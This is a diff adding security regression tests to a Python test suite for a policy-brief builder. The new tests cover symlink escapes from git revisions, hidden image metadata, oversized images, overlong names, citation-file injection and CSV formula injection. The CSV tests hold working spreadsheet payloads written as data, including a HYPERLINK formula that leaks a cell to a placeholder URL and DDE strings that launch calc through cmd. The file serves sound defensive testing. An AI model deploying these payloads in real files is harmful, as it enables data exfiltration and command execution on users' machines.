@@ -1379,6 +1379,484 @@ case(
 )
 
 
+# `changes` reads a git revision or an earlier build: hostile ones are messages.
+def git_revision(link: str, target: str) -> Setup:
+    """The project in a new git repository whose last commit holds the symlink ``link``
+    to ``target``; the working tree without it (the current project loads)."""
+
+    def setup(w: World) -> None:
+        env = {
+            **os.environ,
+            "GIT_AUTHOR_NAME": "t",
+            "GIT_AUTHOR_EMAIL": "t@t",
+            "GIT_COMMITTER_NAME": "t",
+            "GIT_COMMITTER_EMAIL": "t@t",
+        }
+        symlink(link, target)(w)
+        for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "hostile"]):
+            subprocess.run(
+                ["git", "-C", str(w.project), *args], check=True, capture_output=True, env=env
+            )
+        (w.project / link).unlink()
+
+    return setup
+
+
+def changes(old: str) -> list[str]:
+    return ["changes", old, "--project", "{P}", "-q"]
+
+
+case(
+    "changes: a revision with a symlink to an absolute path",
+    git_revision("facts/stolen.yaml", "{X}"),
+    changes("HEAD"),
+    2,
+    "Error: 'HEAD': 'facts/stolen.yaml' is a link to an absolute path (changes reads only "
+    "the revision's own files)",
+)
+case(
+    "changes: a revision with a symlink climbing out",
+    git_revision("facts/stolen.yaml", "../../secret.txt"),
+    changes("HEAD"),
+    2,
+    "Error: 'HEAD': 'facts/stolen.yaml' would link to '",
+    ends="which is outside the destination (changes reads only the revision's own files)",
+)
+
+
+def snapshot_folder(text: str) -> Setup:
+    def setup(w: World) -> None:
+        folder = w.tmp / "old"
+        folder.mkdir(exist_ok=True)
+        (folder / ".policybrief-snapshot.json").write_text(text, encoding="utf-8")
+
+    return setup
+
+
+SNAP = "{P}/../old/.policybrief-snapshot.json"
+for name, text, why in (
+    (
+        "facts a list",
+        '{"version": 1, "facts": [], "claims": {}, "conflicts": {}, "briefs": {}}',
+        "not a snapshot this version can read",
+    ),
+    (
+        "no facts",
+        '{"version": 1, "claims": {}, "conflicts": {}, "briefs": {}}',
+        "not a snapshot this version can read",
+    ),
+    (
+        "a fact a number",
+        '{"version": 1, "facts": {"qiaotou.park.opened": 5}, "claims": {}, '
+        '"conflicts": {}, "briefs": {}}',
+        None,
+    ),
+    (
+        "a brief a string",
+        '{"version": 1, "facts": {}, "claims": {}, "conflicts": {}, "briefs": {"qiaotou": "x"}}',
+        None,
+    ),
+    ("version 2", '{"version": 2}', "not a snapshot this version can read"),
+    ("a list", "[1, 2]", "not a snapshot this version can read"),
+):
+    case(
+        f"changes: a malformed snapshot, {name}",
+        snapshot_folder(text),
+        changes("{P}/../old"),
+        2,
+        f"Error: {SNAP}: " + (why or "not a snapshot this version can read ("),
+        ends="" if why else ")",
+    )
+
+
+CHART = [
+    "--project",
+    "{P}",
+    "--out",
+    "{N}",
+    "--brief",
+    "qiaotou",
+    "--audience",
+    "full-report",
+    "--lang",
+    "en",
+    "--format",
+    "html",
+    "-q",
+]
+
+
+# Privacy: an image is written again from its pixels; no metadata block survives, however
+# the file hides it.
+def _exif_jpeg(size: tuple[int, int] = (60, 40)) -> bytes:
+    import io
+
+    from PIL import Image
+
+    exif = Image.Exif()
+    exif[0x010F] = "SecretCamera"  # make
+    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0)}  # GPS
+    out = io.BytesIO()
+    Image.new("RGB", size, (120, 30, 200)).save(out, "JPEG", exif=exif.tobytes(), comment=b"SECRET")
+    return out.getvalue()
+
+
+def _app1(payload: bytes) -> bytes:
+    block = b"Exif\x00\x00" + payload
+    return b"\xff\xe1" + (len(block) + 2).to_bytes(2, "big") + block
+
+
+HIDDEN = {
+    "EXIF in a second image after the first": lambda: _exif_jpeg() + _exif_jpeg((8, 8)),
+    "an EXIF block after the end of the image": lambda: _exif_jpeg() + _app1(b"GPSSECRET"),
+    "an EXIF block before the first": lambda: _exif_jpeg()[:2]
+    + _app1(b"GPSSECRET")
+    + _exif_jpeg()[2:],
+    "a comment and EXIF": _exif_jpeg,
+    "XMP after the scan": lambda: _exif_jpeg()
+    + b"\xff\xe1\x00\x30http://ns.adobe.com/xap/1.0/\x00<x:GPSSECRET/>....",
+}
+
+
+def _published_image_is_clean(w: World) -> None:
+    import base64
+
+    page = (w.tmp / "new" / "qiaotou/full-report.en.html").read_text(encoding="utf-8")
+    found = re.findall(r'src="data:image/jpeg;base64,([^"]+)"', page)
+    assert found, "the picture is not on the page"
+    for data in (base64.b64decode(d) for d in found):
+        for secret in (b"SecretCamera", b"GPSSECRET", b"SECRET", b"Exif", b"http://ns.adobe"):
+            assert secret not in data
+
+
+for name, make in HIDDEN.items():
+    case(
+        f"image metadata: {name}",
+        picture(
+            "photo.jpg",
+            lambda w, make=make: (w.project / "briefs/qiaotou/photo.jpg").write_bytes(make()),
+        ),
+        CHART,
+        0,
+        "",
+        then=_published_image_is_clean,
+    )
+
+
+# Limits: a logo's pixels, a batch table's rows.
+def _big_png(width: int, height: int) -> bytes:
+    """A PNG declaring width × height pixels in a few kilobytes (one colour compresses)."""
+    import io
+
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("1", (width, height)).save(out, "PNG", optimize=True)
+    return out.getvalue()
+
+
+def logo_file(data: Callable[[], bytes], name: str = "logo.png") -> Setup:
+    def setup(w: World) -> None:
+        (w.project / "house" / name).write_bytes(data())
+        w.write("house/theme.yaml", f"logo: {name}\n")
+
+    return setup
+
+
+case(
+    "logo of 100 megapixels in a small PNG",
+    logo_file(lambda: _big_png(10_000, 10_000)),
+    check(),
+    1,
+    "house/theme.yaml:1: theme: logo: image 'logo.png' has 10000 × 10000 pixels; the limit "
+    "is 4,000,000 in all (scale it down: about 2,000 pixels across is enough for a "
+    "full-width image printed at 300 dpi)",
+)
+case(
+    "logo that is not the PNG it claims",
+    logo_file(lambda: b"GIF89a" + b"\x00" * 20),
+    check(),
+    1,
+    "house/theme.yaml:1: theme: logo: image 'logo.png' is not a readable PNG file (save it "
+    "again as PNG)",
+)
+case(
+    "logo with a name over 255 bytes",
+    lambda w: w.write("house/theme.yaml", "logo: " + "l" * 300 + ".png\n"),
+    check(),
+    1,
+    "house/theme.yaml:1: theme: logo: the file name 'llllllllllllllllllllllll…' is 304 "
+    "bytes long; a name may have at most 255 (rename the file)",
+)
+
+
+def batch(rows: int) -> Setup:
+    """A batch brief ``members`` (tests/test_batch.py's) whose table has ``rows`` rows."""
+
+    def setup(w: World) -> None:
+        from test_batch import BATCH
+
+        for name, text in BATCH.items():
+            w.write(name, text)
+        row = (
+            "  - slug: p{n}\n    name: {{zh: 甲, en: A}}\n    kind: {{zh: 乙, en: B}}\n"
+            "    team: qiaotou.staff.2016\n"
+        )
+        w.write(
+            "briefs/members/rows.yaml", "rows:\n" + "".join(row.format(n=n) for n in range(rows))
+        )
+
+    return setup
+
+
+case(
+    "batch table of 20,000 rows",
+    batch(20_000),
+    check(),
+    1,
+    "briefs/members/rows.yaml:20002: the table has 20,000 rows; the limit is 5,000 (split it "
+    "into several batch briefs, each with its own table)",
+)
+case(
+    "batch table named with over 255 bytes",
+    both(
+        batch(1),
+        lambda w: w.edit("briefs/members/brief.yaml", "rows: rows.yaml", "rows: " + "r" * 300),
+    ),
+    check(),
+    1,
+    lambda w: f"briefs/members/brief.yaml:{w.line_of('briefs/members/brief.yaml', 'rows: r')}: "
+    "batch: table: the file name 'rrrrrrrrrrrrrrrrrrrrrrrr…' is 300 bytes long; a name may "
+    "have at most 255 (rename the file)",
+)
+case(
+    "row() naming no column points at brief.yaml",
+    both(
+        batch(1),
+        lambda w: w.edit(
+            "briefs/members/en.md", "It follows the region's plan.", "It is {{ row('nope') }}."
+        ),
+    ),
+    check(),
+    1,
+    lambda w: f"briefs/members/en.md:{w.line_of('briefs/members/en.md', 'nope')}: 'nope' is "
+    "not a text column of this brief's batch row (the text columns are listed under batch: "
+    "text: in brief.yaml)",
+)
+
+# Long names, each at the line that writes it.
+LONG = "a" * 300
+case(
+    "source file named with over 255 bytes",
+    lambda w: w.edit("facts/sources.yaml", "file: qiaotou.txt", f"file: {LONG}.txt"),
+    check(),
+    1,
+    lambda w: f"facts/sources.yaml:{w.line_of('facts/sources.yaml', 'file: aaa')}: source "
+    "'qiaotou-case': the file name 'aaaaaaaaaaaaaaaaaaaaaaaa…' is 304 bytes long; a name may "
+    "have at most 255 (rename the file)",
+)
+case(
+    "audience template named with over 255 bytes",
+    lambda w: w.edit("house/audiences.yaml", "template: field-card.html", f"template: {LONG}.html"),
+    check(),
+    1,
+    lambda w: f"house/audiences.yaml:{w.line_of('house/audiences.yaml', 'template: aaa')}: "
+    "audience 'field-card': template: the file name 'aaaaaaaaaaaaaaaaaaaaaaaa…' is 305 bytes "
+    "long; a name may have at most 255 (rename the file)",
+)
+case(
+    "template included by a name over 255 bytes",
+    front('{% include "' + LONG + '.html" %}'),
+    build(*HOUSE),
+    1,
+    f"Error: style/decision-makers.html:2: template '{LONG}.html' not found (looked in "
+    "style, house, templates; names are relative to a template folder)",
+)
+case(
+    "output folder named with over 255 bytes",
+    None,
+    ["--project", "{P}", "--out", "{P}/../" + LONG, *BRIEF, "-q"],
+    1,
+    lambda w: f"Error: {w.tmp / LONG}: file name too long",
+)
+case(
+    "prose image named with over 255 bytes",
+    picture(LONG + ".png"),
+    build(),
+    1,
+    picture_error(
+        f"image '{LONG}.png' not found in briefs/qiaotou/ (check the name; it is case-sensitive)"
+    ),
+)
+
+# Messages that named the wrong place, and a flag that was ignored.
+case(
+    "--sources naming no folder",
+    None,
+    check("--sources", "{P}/no-such-folder"),
+    2,
+    "Error: --sources {P}/no-such-folder: no such folder",
+)
+case(
+    "--sources naming a file",
+    None,
+    check("--sources", "{P}/pyproject.toml"),
+    2,
+    "Error: --sources {P}/pyproject.toml: not a folder",
+)
+case(
+    "sources.yaml that does not parse blames no fact",
+    lambda w: w.edit("facts/sources.yaml", "sources:", "sources: ["),
+    check(),
+    1,
+    "facts/sources.yaml:3: invalid YAML: did not find expected ',' or ']' (check indentation, "
+    "colons and quotes)",
+    ends="",
+)
+case(
+    "invalid TOML at its line",
+    lambda w: w.edit("pyproject.toml", 'source_texts = "sources"', 'source_texts = "sources'),
+    check(),
+    1,
+    "pyproject.toml:2: invalid TOML: Illegal character '\\n'",
+)
+
+# Files readers download: reference exports and chart data, read back as their readers do.
+QIAOTOU_TITLE = 'en: "The Qiaotou digital industry park: a case study"'
+
+
+def _exports_read_back(w: World) -> None:
+    import rispy
+    from pybtex.database import parse_string
+
+    folder = w.tmp / "new" / "qiaotou"
+    bib = parse_string((folder / "references.bib").read_text(encoding="utf-8"), "bibtex")
+    ris = rispy.loads((folder / "references.ris").read_text(encoding="utf-8"))
+    ids = sorted(bib.entries)
+    assert ids == sorted(r["id"] for r in ris), (ids, ris)
+    assert "qiaotou-case" in ids and all(
+        i in ("qiaotou-case", "qiaotou-internal") or "-" in i for i in ids
+    )
+    entry = bib.entries["qiaotou-case"]
+    assert "forged" not in entry.fields and "note" not in entry.fields
+    assert not [
+        k
+        for k in entry.fields
+        if k
+        not in (
+            "title",
+            "howpublished",
+            "publisher",
+            "url",
+            "urldate",
+            "year",
+            "date",
+            "langid",
+            "doi",
+            "institution",
+        )
+    ], entry.fields
+    assert len(ris) == len(bib.entries)
+    for record in ris:
+        assert record["type_of_reference"] != "JOUR" or record["id"] != "forged"
+
+
+for name, old, new in (
+    ("a lone } in a title", QIAOTOU_TITLE, 'en: "A } , forged = {x"'),
+    ("braces that close the entry", QIAOTOU_TITLE, 'en: "A }}\\n@misc{forged, title={x}}"'),
+    ("a backslash before a brace", QIAOTOU_TITLE, 'en: "A \\\\} , forged = {x"'),
+    (
+        "a newline in an author",
+        "authors:\n      - {literal: 园区管委会}",
+        'authors:\n      - {literal: "Park\\nER  - \\nTY  - JOUR\\nID  - forged"}',
+    ),
+    (
+        "a newline in a title",
+        QIAOTOU_TITLE,
+        'en: "A\\r\\nER  - \\r\\nTY  - JOUR\\r\\nID  - forged"',
+    ),
+    ("a line separator in a title", QIAOTOU_TITLE, 'en: "A\\u2028ER  - \\u2028TY  - JOUR"'),
+    (
+        "' and ' in a family name",
+        "authors:\n      - {literal: 园区管委会}",
+        'authors:\n      - {family: "Wang and forged", given: Li}',
+    ),
+):
+    case(
+        f"reference export: {name}",
+        lambda w, old=old, new=new: w.edit("facts/sources.yaml", old, new),
+        fresh(),
+        0,
+        "",
+        then=_exports_read_back,
+    )
+
+BAD_ID = "source id {!r} may hold only letters, digits, '-', '_', ':' and '.' (it names the source in citations and reference managers' files: write it like qiaotou-case)"
+for name, written, shown in (
+    ("a brace", '"bad}id"', "bad}id"),
+    ("a comma", '"bad,id"', "bad,id"),
+    ("a space", '"bad id"', "bad id"),
+    ("a newline", '"bad\\nTY  - JOUR"', "bad\nTY  - JOUR"),
+    ("an @", '"@misc"', "@misc"),
+    ("over 100 characters", "i" * 101, "i" * 101),
+):
+    case(
+        f"source id with {name}",
+        lambda w, written=written: w.edit(
+            "facts/sources.yaml", "  qiaotou-case:", f"  {written}:\n    title: x\n  qiaotou-case:"
+        ),
+        check(),
+        1,
+        lambda w,
+        shown=shown: f"facts/sources.yaml:{w.line_of('facts/sources.yaml', 'qiaotou-case:') - 2}: "
+        + BAD_ID.format(shown),
+    )
+
+
+def _csv_cells_are_text(w: World) -> None:
+    import csv
+
+    files = sorted((w.tmp / "new" / "qiaotou").glob("*.en.csv"))
+    assert files
+    for path in files:
+        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+        cells = [cell for row in rows for cell in row]
+        assert any(cell.startswith("'") for cell in cells), path
+        for cell in cells:
+            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                float(cell)  # only a plain number may start so
+
+
+for name, text in (
+    ("=", '=HYPERLINK("{U}/leak?"&A1,"Click")'),
+    ("+", "+1+cmd|' /C calc'!A0"),
+    ("-", "-2+3+cmd|' /C calc'!A0"),
+    ("@", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("a tab", "\\t=1+1"),
+):
+    case(
+        f"chart CSV cell starting with {name}",
+        lambda w, text=text: w.edit(
+            "facts/sources.yaml",
+            "en: Park Management Committee",
+            'en: "' + text.replace('"', '\\"') + '"',
+        ),
+        CHART,
+        0,
+        "",
+        then=_csv_cells_are_text,
+    )
+
+case(
+    "Word: a house page template writing a control character",
+    front("<p>bell &#7; tab &#xb; nul &#0; U+FFFE &#xfffe;</p>"),
+    fresh(*HOUSE, "--format", "docx"),
+    0,
+    "",
+    then=lambda w: __import__("docx").Document(str(w.tmp / "new" / WORD)),
+)
+
+
 def _run(world: World, item: Case, capsys) -> tuple[int, str]:
     argv = [world.sub(a) for a in item.argv]
     if item.subprocess:
